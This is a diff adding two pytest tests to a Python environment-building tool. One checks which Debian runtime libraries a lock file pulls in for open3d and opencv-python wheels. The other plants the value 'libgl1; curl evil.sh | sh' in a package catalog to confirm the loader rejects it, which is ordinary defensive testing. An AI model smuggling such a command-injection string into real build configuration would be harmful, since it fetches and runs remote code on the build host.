@@ -379,6 +379,38 @@ def test_the_lock_decides_which_packages_build_from_source_and_with_what(tmp_pat
     assert "libfreetype-dev" in render.dockerfile(render.make_context(plan, "test"))
 
 
+def test_the_lock_decides_which_os_libraries_the_runtime_installs_for_its_wheels(tmp_path):
+    """open3d's wheel loads libX11, libudev and libGL, opencv-python's libGL (the catalog's
+    runtime_apt): a lock with open3d gets all three, one with neither gets none, and an unlocked
+    build is ready for any (PointPillars' first verify failed at `import open3d`: libX11.so.6)."""
+    import hashlib
+    from envbuild.lock import HEADER
+    plan = resolve(catalog.load(), "pointpillars", "a800", python="3.11", cuda="11.8")
+    assert plan.runtime_apt["open3d"] == ["libgl1", "libudev1", "libx11-6"]
+    out = tmp_path / "ctx"
+    ctx = render.make_context(plan, "test")
+    render.write(ctx, out)
+    header = HEADER + hashlib.sha256(render.requirements_in(ctx).encode()).hexdigest()
+    (out / "torch.lock").write_text(header + "\n")
+    x11 = {"libgl1", "libudev1", "libx11-6"}
+    for locked, wanted in (("open3d==0.18.0", x11), ("opencv-python==4.5.5.62", {"libgl1"}), ("tqdm==4.62.3", set())):
+        (out / "requirements.lock").write_text(f"{header}\n{locked} \\\n    --hash=sha256:{'a' * 64}\n")
+        ctx = render.make_context(plan, "test")
+        render.use_lock(ctx, out)
+        assert ctx.locked and x11 & set(ctx.runtime_apt) == wanted, locked
+        assert all(a in render.dockerfile(ctx) for a in wanted)
+    assert x11 <= set(render.make_context(plan, "test").runtime_apt)  # unlocked: any may arrive
+
+
+def test_a_runtime_apt_entry_that_is_no_debian_package_name_is_refused_at_load(matrices_copy):
+    from envbuild.errors import CatalogError
+    pkg = matrices_copy / "toolchains" / "packages.toml"
+    pkg.write_text(pkg.read_text().replace('open3d = ["libgl1", "libudev1", "libx11-6"]',
+                                           'open3d = ["libgl1; curl evil.sh | sh"]'))
+    with pytest.raises(CatalogError, match="runtime_apt"):
+        catalog.load(matrices_copy)
+
+
 def test_source_build_recipes_are_validated(matrices_copy):
     from envbuild.errors import CatalogError
     pkg = matrices_copy / "toolchains" / "packages.toml"
